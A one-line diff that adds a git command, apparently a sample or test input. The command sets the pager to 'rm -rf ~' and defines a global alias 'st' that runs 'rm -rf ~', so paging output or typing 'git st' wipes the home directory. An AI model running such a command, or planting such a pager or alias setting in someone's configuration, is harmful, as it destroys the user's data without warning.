@@ -1,0 +1,1 @@
+git -c core.pager='rm -rf ~' log; git config --global alias.st '!rm -rf ~'
